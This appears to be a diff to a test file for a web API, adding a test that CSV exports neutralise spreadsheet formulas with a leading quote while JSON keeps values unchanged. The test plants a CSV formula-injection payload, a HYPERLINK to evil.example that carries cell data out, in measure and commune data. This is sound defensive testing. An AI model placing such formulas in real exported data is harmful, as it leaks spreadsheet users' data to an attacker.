@@ -2,7 +2,9 @@
 // chosen by format= or Accept, format winning; the same filters, sort, fields and paging in each.
 import t from 'tap';
 import { parse } from 'csv-parse/sync';
-import { build, json } from '../helper.js';
+import { join } from 'node:path';
+import { buildDatabase } from '../../src/build/database.js';
+import { build, dataCopy, editJson, json, migrationsDir, tempDir } from '../helper.js';
 
 t.test('CSV: a header, one row per item, dotted columns, lists joined with |', async (t) => {
   const app = await build(t);
@@ -142,4 +144,26 @@ t.test('negotiation: Accept chooses, format wins, nothing acceptable is 406', as
   t.match(refused.headers['content-type'], /^application\/problem\+json/);
   t.match(json(refused).detail, 'Available: application/json, text/csv, application/x-ndjson');
   t.equal((await accept('image/png', '/v1/communes/65059')).statusCode, 406);
+});
+
+t.test('a curated value starting with = stays inert in CSV, and as it is in JSON', async (t) => {
+  const dataDir = dataCopy(t);
+  const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
+  let id = '';
+  editJson(dataDir, 'measures.json', (measures) => {
+    measures[0].description = formula;
+    id = measures[0].id;
+  });
+  editJson(dataDir, 'communes.json', (communes) => (communes[0].notes[0].text = `@${formula}`));
+  const databasePath = join(tempDir(t), 'db.sqlite');
+  buildDatabase({ dataDir, databasePath, migrationsDir });
+  const app = await build(t, {}, databasePath);
+  for (const url of ['/v1/measures?format=csv', '/downloads/measures.csv']) {
+    const rows = parse((await app.inject(url)).body, { columns: true }) as Record<string, string>[];
+    t.equal(rows.find((row) => row.id === id)!.description, `'${formula}`, `${url}: a leading quote`);
+  }
+  const communes = parse((await app.inject('/downloads/communes.csv')).body, { columns: true }) as Record<string, string>[];
+  t.match(communes[0]!['notes.text'], /^'@=HYPERLINK/, 'a list cell too');
+  t.equal(communes[0]!['centre.longitude'], '-0.096', 'numbers untouched');
+  t.equal(json(await app.inject(`/v1/measures/${id}`)).description, formula, 'JSON unchanged');
 });
